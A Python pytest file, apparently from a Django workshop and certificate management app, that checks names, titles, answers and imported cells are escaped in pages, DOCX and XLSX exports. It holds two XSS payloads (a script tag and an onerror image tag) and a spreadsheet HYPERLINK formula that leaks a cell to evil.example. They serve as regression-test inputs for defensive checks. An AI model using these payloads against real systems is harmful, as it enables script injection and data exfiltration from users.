"""Markup in any name or free text is shown as text: on the pages, in DOCX and in XLSX.

Two payloads: a script element, and a quote that closes an attribute before an image whose
error handler runs script. Each is stored where users type or import text (a person's names and
unit, a workshop's title and objectives, a session's venue, a bank question, an imported cell, a
survey's open answer, a revocation reason), then every page that shows it is fetched: the raw
markup never appears, its escaped form does.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from kalan.assessments import services as assessments
from kalan.assessments.models import Test
from kalan.certificates import services as certificates
from kalan.core.models import Partner, User
from kalan.people.models import Person
from kalan.plans.models import Axis
from kalan.workshops.models import Enrollment, ImportBatch, Session, Workshop
from tests.assessments.builders import ObjectiveFactory, bank_question
from tests.assessments.results_data import build_test, content, start_copy
from tests.documents.readers import docx_text
from tests.factories import (
    EnrollmentFactory,
    PersonFactory,
    SessionFactory,
    UnitFactory,
    WorkshopFactory,
)
from tests.security.support import present_every_day
from tests.spreadsheets import body, xlsx_cells, xlsx_has_formulas

ClientFor = Callable[[User], Client]

PAYLOADS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']


def shown_as_text(page: str, payload: str) -> bool:
    """The payload is on the page escaped, and nowhere raw (case aside: names are upper-cased)."""
    lowered = page.lower()
    return payload.lower() not in lowered and escape(payload).lower() in lowered


@pytest.fixture(params=PAYLOADS, ids=["script", "attribute"])
def payload(request: pytest.FixtureRequest) -> str:
    value: str = request.param
    return value


@pytest.fixture
def marked(payload: str, axis: Axis, funder: Partner) -> dict[str, Any]:
    """The payload in every free text of a workshop, its session and one participant."""
    workshop = WorkshopFactory(
        axis=axis,
        title=f"Atelier {payload}",
        general_objective=f"Objectif {payload}",
        objectives=[f"Objectif spécifique {payload}"],
        fundings=[(funder, 1_000_000)],
    )
    session = SessionFactory(workshop=workshop, venue=f"Salle {payload}")
    person = PersonFactory(
        last_name=f"Keïta {payload}",
        first_names=f"Awa {payload}",
        unit=UnitFactory(name=f"Brigade {payload}"),
    )
    enrollment = EnrollmentFactory(session=session, person=person)
    present_every_day(enrollment)
    return {"workshop": workshop, "session": session, "person": person, "enrollment": enrollment}


def page_of(client: Client, url: str, **params: str) -> str:
    response = client.get(url, params)
    assert response.status_code == 200, url
    return response.content.decode()


# --- Pages ------------------------------------------------------------------------------------


def test_a_person_s_names_and_unit_are_text_on_the_person_pages(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    client = client_for(programme_officer)
    person: Person = marked["person"]

    detail = page_of(client, reverse("person_detail", kwargs={"uid": person.uid}))
    found = page_of(client, reverse("person_list"), q="Keïta")

    assert shown_as_text(detail, payload)
    assert shown_as_text(detail, f"Brigade {payload}")
    assert shown_as_text(found, payload)


def test_names_venue_and_title_are_text_on_the_session_page_and_its_search(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    client = client_for(programme_officer)
    session: Session = marked["session"]
    other = SessionFactory(workshop=marked["workshop"])  # where the person can still enrol
    url = reverse("session_detail", kwargs={"uid": session.uid})

    page = page_of(client, url)
    search = client.get(
        reverse("session_detail", kwargs={"uid": other.uid}),
        {"q": "Keïta", "partial": "search"},
        headers={"HX-Request": "true"},
    ).content.decode()

    assert shown_as_text(page, f"Salle {payload}")
    assert shown_as_text(page, f"Atelier {payload}")
    assert shown_as_text(page, f"Awa {payload}")
    assert shown_as_text(search, f"Awa {payload}")


def test_a_workshop_s_title_and_objectives_are_text_on_its_page(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    workshop: Workshop = marked["workshop"]

    page = page_of(
        client_for(programme_officer), reverse("workshop_detail", kwargs={"pk": workshop.pk})
    )

    assert shown_as_text(page, f"Atelier {payload}")
    assert shown_as_text(page, f"Objectif spécifique {payload}")
    assert shown_as_text(page, f"Salle {payload}")


def test_a_workshop_title_is_text_on_the_donor_page(
    marked: dict[str, Any], payload: str, donor_viewer: User, client_for: ClientFor
) -> None:
    page = page_of(client_for(donor_viewer), reverse("funded_overview"))

    assert shown_as_text(page, f"Atelier {payload}")
    assert shown_as_text(page, f"Salle {payload}")


def test_a_bank_question_is_text_on_the_bank_and_the_test_pages(
    payload: str, sevare_session: Session, programme_officer: User, client_for: ClientFor
) -> None:
    objective = ObjectiveFactory(code="CO-XSS", text=f"Objectif {payload}")
    question = bank_question(
        objective,
        text=f"Question {payload}",
        choices=[(f"Réponse {payload}", True), ("Non", False)],
    )
    client = client_for(programme_officer)
    test = assessments.test_create(
        session=sevare_session,
        kind=Test.Kind.PRE,
        title=f"Pré-test {payload}",
        questions=[question],
    )

    bank = page_of(client, reverse("bank_list"))
    editing = page_of(client, reverse("question_edit", kwargs={"uid": question.uid}))
    detail = page_of(client, reverse("test_detail", kwargs={"uid": test.uid}))
    tests = page_of(client, reverse("session_tests", kwargs={"uid": sevare_session.uid}))

    assert shown_as_text(bank, f"Question {payload}")
    assert shown_as_text(bank, f"Objectif {payload}")
    assert shown_as_text(editing, f"Question {payload}")
    assert shown_as_text(editing, f"Réponse {payload}")
    assert shown_as_text(detail, f"Question {payload}")
    assert shown_as_text(tests, f"Pré-test {payload}")


def test_a_survey_s_open_answer_and_question_are_text_on_the_results_page(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    remark = content("open", objective="", text=f"Remarque {payload}")
    remark["choices"] = []
    survey = build_test(marked["session"], kind=Test.Kind.SURVEY, contents=[remark], pass_mark=0)
    copy = start_copy(survey, marked["enrollment"])
    [question] = survey.questions.all()
    assessments.answer_save(submission=copy, question=question, text=f"Plus de {payload}")
    assessments.submission_submit(submission=copy)

    page = page_of(
        client_for(programme_officer), reverse("test_results", kwargs={"uid": survey.uid})
    )

    assert shown_as_text(page, f"Plus de {payload}")
    assert shown_as_text(page, f"Remarque {payload}")


def test_a_revocation_reason_is_text_on_the_certificates_page(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    session: Session = marked["session"]
    [certificate] = certificates.certificates_issue(session=session, by=programme_officer)
    client = client_for(programme_officer)

    client.post(
        reverse("certificate_revoke", kwargs={"uid": certificate.uid}),
        {"reason": f"Erreur {payload}"},
    )
    page = page_of(client, reverse("session_certificates", kwargs={"uid": session.uid}))

    certificate.refresh_from_db()
    assert certificate.revoke_reason == f"Erreur {payload}"
    assert shown_as_text(page, f"Erreur {payload}")


def test_an_imported_cell_is_text_on_the_import_preview(
    payload: str, sevare_session: Session, programme_officer: User, client_for: ClientFor
) -> None:
    client = client_for(programme_officer)
    cells = ["NOM;Prénoms;Grade;Matricule;Sexe", f"Traoré {payload};Moussa;Adjudant;G-1;M"]
    upload = io.BytesIO("\n".join(cells).encode())
    upload.name = "liste.csv"

    client.post(reverse("import_upload", kwargs={"uid": sevare_session.uid}), {"file": upload})
    batch = ImportBatch.objects.get()
    page = page_of(client, reverse("import_preview", kwargs={"uid": batch.uid}))

    assert shown_as_text(page, payload)


def test_a_name_typed_in_the_enrolment_form_is_text_in_the_message_that_follows(
    payload: str, sevare_session: Session, programme_officer: User, client_for: ClientFor
) -> None:
    client = client_for(programme_officer)
    person = PersonFactory(last_name=f"Diarra {payload}", first_names="Awa")

    response = client.post(
        reverse("enroll_existing", kwargs={"uid": sevare_session.uid}),
        {"person": str(person.uid), "role": Enrollment.Role.PARTICIPANT},
        follow=True,
    )

    page = response.content.decode()
    assert response.status_code == 200
    assert "inscrit(e)" in page
    assert shown_as_text(page, payload)


# --- Documents --------------------------------------------------------------------------------


def docx_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("word/document.xml").decode()


@pytest.mark.parametrize("name", ["session_participants_docx", "session_attendance_docx"])
def test_a_name_is_literal_text_in_the_docx_lists(
    marked: dict[str, Any],
    payload: str,
    programme_officer: User,
    client_for: ClientFor,
    name: str,
) -> None:
    session: Session = marked["session"]

    response = client_for(programme_officer).get(reverse(name, kwargs={"uid": session.uid}))

    assert response.status_code == 200
    text, xml = docx_text(response.content), docx_xml(response.content)
    assert f"Awa {payload}" in text  # read back as the very characters typed
    assert payload not in xml  # written as XML text, not as markup
    assert escape(payload).replace("&#x27;", "'").replace("&quot;", '"') in xml


def test_a_name_is_a_literal_string_in_the_xlsx_exports(
    marked: dict[str, Any], payload: str, programme_officer: User, client_for: ClientFor
) -> None:
    session: Session = marked["session"]
    client = client_for(programme_officer)

    registry = body(client.get(reverse("person_export", kwargs={"fmt": "xlsx"}), {"q": "Keïta"}))
    roster = body(client.get(reverse("session_export", kwargs={"uid": session.uid, "fmt": "xlsx"})))

    for data in (registry, roster):
        cells = [cell for row in xlsx_cells(data) for cell in row]
        assert any(cell.value == f"Awa {payload}" and cell.data_type == "s" for cell in cells)
        assert not xlsx_has_formulas(data)


def test_a_hyperlink_formula_in_a_name_is_exported_as_text(
    programme_officer: User, client_for: ClientFor
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"<script>alert(1)</script>")'
    PersonFactory(last_name=formula, first_names="Awa")

    data = body(
        client_for(programme_officer).get(
            reverse("person_export", kwargs={"fmt": "xlsx"}), {"q": "HYPERLINK"}
        )
    )

    [_header, row] = xlsx_cells(data)
    assert row[1].value == "'" + formula
    assert row[1].data_type == "s"
    assert not xlsx_has_formulas(data)
